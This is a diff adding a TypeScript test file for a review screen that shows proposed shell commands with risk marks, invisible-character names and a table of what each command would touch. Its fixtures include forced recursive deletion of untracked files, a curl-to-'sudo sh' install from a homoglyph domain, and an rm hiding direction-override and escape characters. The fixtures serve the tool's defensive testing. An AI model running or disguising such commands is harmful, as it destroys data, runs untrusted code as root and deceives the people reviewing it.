@@ -1,0 +1,321 @@
+import assert from 'node:assert/strict';
+import { after, afterEach, before, beforeEach, test } from 'node:test';
+import { visibleString } from '../../src/core/visibleText';
+import { ReviewHarness, themes, type ReviewPage } from '../support/reviewHarness';
+import { outside, violations } from './checks';
+import {
+  careful,
+  commandRequest,
+  dangerous,
+  editedRequest,
+  hostile,
+  readCommand,
+  safe,
+  touch,
+  unparsed,
+  type CommandView,
+} from './commandRequests';
+
+let harness: ReviewHarness;
+let review: ReviewPage;
+before(async () => void (harness = await ReviewHarness.start()));
+after(() => harness.stop());
+beforeEach(async () => void (review = await harness.open()));
+afterEach(async () => {
+  assert.deepEqual(review.problems, []);
+  await review.close();
+});
+
+async function show(subject: CommandView, id = 'r1'): Promise<string> {
+  await review.show(commandRequest(subject, { id }));
+  return review.main.innerText();
+}
+
+/** The text of code as it stands in the command, without letters and words for screen readers. */
+function code(within = '.command-rows .item > code'): Promise<readonly string[]> {
+  return review.page.evaluate(
+    (selector) =>
+      [...document.querySelectorAll(selector)].map((one) => {
+        const copy = one.cloneNode(true) as Element;
+        for (const more of copy.querySelectorAll('sup, .sr')) more.remove();
+        for (const box of copy.querySelectorAll('.inv')) box.textContent = `⟨${box.textContent}⟩`;
+        return copy.textContent;
+      }),
+    within,
+  );
+}
+
+test('the verdict is a sentence, with how many marks there are and what that is worth', async () => {
+  const verdict = review.page.getByRole('region', { name: 'Risk' });
+  await show(dangerous);
+  assert.equal(
+    await verdict.innerText(),
+    'Dangerous: deletes files that git cannot bring back, and runs a downloaded script as root\n\n' +
+      '7 marks below: 4 dangerous, 3 careful. Nothing was run to find this out. No marks would not mean it is safe.',
+  );
+  await show(careful, 'r2');
+  assert.match(await verdict.innerText(), /^Careful: installs packages, and may run their scripts\n\n1 mark below\. /);
+  const text = await show(safe, 'r3');
+  assert.match(await verdict.innerText(), /^No marks: reads files in the project\n\n/);
+  assert.doesNotMatch(text, /it is safe to|safe:/i);
+});
+
+test('steps stand one beneath the other, with their operators in words', async () => {
+  await show(dangerous);
+  assert.deepEqual(await code(), [
+    'cd build',
+    'rm -rf -- "$OUT"/* ../cache',
+    'curl -fsSL https://get.ex\u0430mple.dev/install.sh⟨ZWSP⟩',
+    'sudo sh',
+    '> /etc/atlas/install.log',
+  ]);
+  assert.deepEqual(await review.page.locator('.op').allInnerTexts(), [
+    'and, if that worked',
+    'and, if that worked',
+    'its output goes into',
+    'its output is written to',
+  ]);
+  assert.match(await review.page.locator('header').innerText(), /Command · 5 steps/);
+  await show(careful, 'r2');
+  assert.match(await review.page.locator('header').innerText(), /Command · 1 step\b/);
+});
+
+for (const [name, subject] of Object.entries({ dangerous, careful, unparsed, hostile })) {
+  test(`${name}: every mark stands on its range, has its reason on the page, and is named to a screen reader`, async () => {
+    await show(subject);
+    // What is out of view is not laid out, and has no inner text.
+    const text = (await review.main.textContent()) ?? '';
+    const drawn = (await code('.command-rows mark')).join('').replaceAll(/[⟨⟩]/g, '');
+    for (const { from, to, title, text: reason } of subject.analysis.marks) {
+      for (const line of subject.command.slice(from, to).split('\n').filter(Boolean)) {
+        const wanted = visibleString(line).replaceAll(/[⟨⟩]/g, '');
+        assert.ok(drawn.includes(wanted), `${wanted} in ${drawn}`);
+      }
+      assert.ok(text.includes(title) && text.includes(reason), title);
+    }
+    const letters = subject.analysis.marks.map((_, index) => String.fromCharCode(97 + index));
+    const named = (await review.page.locator('.command-rows sup').allTextContents()).join(' ').split(' ');
+    assert.deepEqual([...new Set(named)].sort(), letters);
+    const references = (await review.page.locator('.why .ref').allTextContents()).map((one) => one.split(/[\s,]/)[0]);
+    assert.ok(references.every((one) => letters.includes(one ?? '')));
+    const spoken = await review.main.ariaSnapshot();
+    for (const letter of letters) assert.match(spoken, new RegExp(`marked ${letter}, (careful|dangerous)`));
+    assert.match(spoken, /, (careful|dangerous): /);
+  });
+}
+
+test('text that could not be read is shown raw, whole, with the reason and the reasons for its marks', async () => {
+  const text = await show(unparsed);
+  assert.match(text, /Shown raw, not as steps\. A quote in line 301 is never closed\./);
+  assert.equal((await code()).join('\n'), unparsed.command);
+  assert.equal(await review.page.getByRole('radiogroup', { name: 'View' }).count(), 0);
+  assert.match(await review.page.locator('header').innerText(), /Command · 301 lines/);
+  assert.equal(await review.page.locator('.command-rows .item[data-n="301"]').count(), 1);
+  const next = await review.page
+    .locator('.item', { hasText: 'echo line 7' })
+    .first()
+    .evaluate((row) => row.nextElementSibling?.textContent ?? '');
+  assert.match(next, /Is line seven\./);
+});
+
+test('hostile text stays visible, inside marks too, and so does what no step covers', async () => {
+  await show(hostile);
+  assert.deepEqual(await code(), [
+    '# clean up',
+    'for f in a b; do',
+    'rm "$f"⟨RLO⟩⟨ESC⟩[2K⟨NBSP⟩-r',
+    'done',
+    'cat <<END',
+    'one⟨CR⟩two',
+    'three',
+    'END',
+    '⟨ZWSP⟩',
+    'echo ok',
+    '&',
+  ]);
+  assert.deepEqual(await review.page.locator('.blank-run').allInnerTexts(), ['⋯ 4 blank lines ⋯', '⋯ 4 blank lines ⋯']);
+  assert.ok((await review.page.locator('mark .inv').count()) >= 4);
+  const many = readCommand(`cd a${'\n'.repeat(301)}rm -rf b`, [{ text: 'cd a' }, { text: 'rm -rf b' }], []);
+  assert.match(await show(many, 'r2'), /cd a\s+⋯ 300 blank lines ⋯\s+Step 2:\s+rm -rf b/);
+});
+
+test('what has no ink keeps its box when the names are hidden, by the button and by I', async () => {
+  await show(dangerous);
+  const box = review.page.locator('.command-rows .inv').first();
+  const toggle = review.button('Name invisible characters');
+  const width = async (): Promise<number> => (await box.boundingBox())?.width ?? 0;
+  const named = await width();
+  await toggle.click();
+  assert.equal(await toggle.getAttribute('aria-pressed'), 'false');
+  const bare = await width();
+  assert.ok(bare > 4 && bare < named, `${bare} of ${named}`);
+  assert.match((await box.getAttribute('aria-label')) ?? '', /zero width space/);
+  await review.page.keyboard.press('i');
+  assert.equal(await width(), named);
+});
+
+test('the raw text appears below the steps, by the radio buttons and by T, with numbers and marks', async () => {
+  await show(hostile);
+  const raw = review.page.getByRole('group', { name: 'Raw text' });
+  assert.equal(await raw.count(), 0);
+  await review.page.keyboard.press('t');
+  await raw.waitFor();
+  assert.match(await raw.innerText(), /\d+ characters, 18 lines/);
+  assert.equal(await raw.locator('.item[data-n="18"]').count(), 1);
+  assert.ok((await raw.locator('mark').count()) >= 5);
+  assert.equal((await code('.raw .item > code')).at(-1), 'echo ok &');
+  const whole = await code('.raw .item > code');
+  const lines = hostile.command.split('\n').filter((line) => line !== '');
+  assert.deepEqual(
+    whole.map((line) => line.replaceAll(/[⟨⟩]/g, '')),
+    lines.map((line) => visibleString(line).replaceAll(/[⟨⟩]/g, '')),
+  );
+  await review.page.getByRole('radio', { name: 'Raw' }).press('ArrowLeft');
+  await raw.waitFor({ state: 'detached' });
+  await review.remark.focus();
+  await review.page.keyboard.type('tie');
+  assert.equal(await raw.count(), 0);
+  assert.equal(review.messages('decide').length, 0);
+});
+
+test('the end of the command has a mark of its own, after all of it is drawn', async () => {
+  const last = (): Promise<string> =>
+    review.page.evaluate(() => {
+      const ends = document.querySelectorAll('[data-end-of-command]');
+      const [end] = ends;
+      const box = end?.getBoundingClientRect();
+      return `${ends.length} ${box?.height} ${end?.nextElementSibling?.className ?? null} ${end?.previousElementSibling?.textContent}`;
+    });
+  await show(safe);
+  assert.match(await last(), /^1 0 null .*rg -n TODO src$/);
+  await show(unparsed, 'r2');
+  assert.match(await last(), /^1 0 null .*Deletes, recursive and forced\./);
+  await review.page.keyboard.press('t');
+  assert.match(await last(), /^1 /);
+});
+
+test('a megabyte and 10,000 lines are drawn whole', async () => {
+  const text = `${Array.from({ length: 9999 }, (_, index) => `echo ${index} ${'x'.repeat(90)}`).join('\n')}\nrm -rf last`;
+  const lines = text.split('\n');
+  await show(readCommand(text, null, [{ on: 'rm -rf', title: 'Deletes.' }], { unparsed: 'It is too long.' }));
+  assert.equal(await review.page.locator('.command-rows .item[data-n]').count(), 10_000);
+  assert.equal(await review.page.locator('mark').textContent(), 'marked a, dangerous: rm -rfa');
+  const steps = readCommand(
+    text,
+    lines.map((line) => ({ text: line })),
+    [{ on: 'rm -rf', title: 'Deletes.' }],
+  );
+  await show(steps, 'r2');
+  assert.equal(await review.page.locator('.command-rows .item[data-n]').count(), 10_000);
+  assert.equal(await review.page.locator('[data-end-of-command]').count(), 1);
+  const long = `echo ${'y'.repeat(1_000_000)}; rm -rf last`;
+  await show(readCommand(long, [{ text: long }], [{ on: long, title: 'All of it.' }]), 'r3');
+  assert.equal((await code()).join(''), long);
+  assert.equal((await review.page.locator('.command-rows sup').allTextContents()).join(), 'a');
+});
+
+test('what it would touch: a row for each thing, with whether it can come back', async () => {
+  await show(dangerous);
+  const card = review.page.getByRole('region', { name: 'What it would touch' });
+  assert.equal(await card.count(), 0);
+  await review.tell({ type: 'touch', id: 'other', touch });
+  await review.tell({ type: 'touch', id: 'r1', touch: null });
+  await card.getByText('Looking at the disk…').waitFor();
+  await review.tell({ type: 'touch', id: 'r1', touch });
+  await card.getByText(/read from disk \d+ (s|min) ago; nothing was run/).waitFor();
+  const rows = await card.getByRole('row').allInnerTexts();
+  assert.deepEqual(
+    rows.map((row) => row.replaceAll(/\s+/g, ' ').trim()),
+    [
+      'Step What How much Can it come back?',
+      '2 deletes ../cache index.db, tokens.json, 210 more 212 files, 48 MB No. Ignored by git',
+      '2 deletes "$OUT"/* Not expanded: OUT is not set here. unknown Unknown.',
+      '3 contacts get.xn--exmple-4nf.dev 1 host Nothing to bring back.',
+      '5 overwrites /etc/atlas/install.log 1 file, 14 kB No. Outside the project',
+    ],
+  );
+  await card.getByRole('button', { name: 'Read again' }).click();
+  assert.deepEqual(await review.waitFor((one) => one.type === 'lookAgain'), { type: 'lookAgain', id: 'r1' });
+  assert.equal(review.messages('lookAgain').length, 1);
+});
+
+test('nothing to touch is no table, and where it runs is said all the same', async () => {
+  await show(dangerous);
+  const evil = 'a\u202eb\nc';
+  await review.tell({
+    type: 'touch',
+    id: 'r1',
+    touch: { readAt: Date.now(), rows: [], cwd: '/srv/real', cwdWarning: 'It is not in the project.' },
+  });
+  await review.page.getByText('It is not in the project.').waitFor();
+  assert.match(await review.main.innerText(), /Runs in \/home\/mira\/atlas-api, which is \/srv\/real/);
+  assert.equal(await review.page.getByRole('table').count(), 0);
+  const row = {
+    ...touch.rows[0]!,
+    what: evil,
+    names: [evil],
+    why: evil,
+    note: evil,
+    atLeast: true as const,
+    bytes: 999_600,
+  };
+  await review.tell({ type: 'touch', id: 'r1', touch: { ...touch, rows: [row] } });
+  await review.page.getByRole('table').waitFor();
+  const text = await review.page.getByRole('table').innerText();
+  assert.match(text, /at least 212 files, 1 MB/);
+  assert.doesNotMatch(text, /\u202e/);
+  assert.equal((text.match(/RLO/g) ?? []).length, 4);
+  await review.show(commandRequest(dangerous, { id: 'r2' }));
+  assert.equal(await review.page.getByRole('table').count(), 0, 'it was about another request');
+});
+
+const looks = {
+  dangerous: commandRequest(dangerous, { id: 'dangerous' }),
+  careful: commandRequest(careful, { id: 'careful' }),
+  safe: commandRequest(safe, { id: 'safe' }),
+  hostile: commandRequest(hostile, { id: 'hostile' }),
+  unparsed: commandRequest(unparsed, { id: 'unparsed' }),
+  edited: editedRequest(dangerous.command.replace('../cache', '../cache/tmp'), dangerous, { id: 'edited' }),
+  fixed: commandRequest(careful, {
+    id: 'fixed',
+    abilities: {
+      ...commandRequest(careful).abilities,
+      editedCommand: { edits: { possible: false, reason: 'Codex cannot take an edited command.' }, told: '' },
+    },
+  }),
+};
+
+for (const theme of themes) {
+  test(`${theme}: nothing outside the page and nothing for axe to find, with raw text, table and box, at every size`, async () => {
+    await review.close();
+    review = await harness.open({ theme });
+    for (const [name, request] of Object.entries(looks)) {
+      await review.page.setViewportSize({ width: 1200, height: 900 });
+      await review.show(request);
+      await review.tell({ type: 'touch', id: name, touch });
+      await review.page.getByRole('table').waitFor();
+      for (const size of [
+        { width: 1200, height: 900 },
+        { width: 700, height: 800 },
+        { width: 400, height: 800 },
+        { width: 400, height: 300 },
+      ]) {
+        const at = `${name} ${size.width}x${size.height}`;
+        await review.page.setViewportSize(size);
+        await review.rest(30);
+        await review.picture(`command-${name}-${size.width}x${size.height}-${theme}`);
+        assert.deepEqual(await outside(review), [], at);
+        if (size.width === 700 || size.height === 800) continue;
+        assert.deepEqual(await violations(review), [], at);
+        await review.page.keyboard.press('t');
+        assert.deepEqual(await outside(review), [], at);
+        await review.page.keyboard.press('t');
+        if (name !== 'dangerous' && name !== 'edited') continue;
+        await review.page.keyboard.press('e');
+        await review.page.getByRole('textbox', { name: 'Command' }).waitFor();
+        assert.deepEqual([...(await outside(review)), ...(await violations(review))], [], `${at}, box`);
+        await review.page.keyboard.press('Escape');
+      }
+    }
+  });
+}
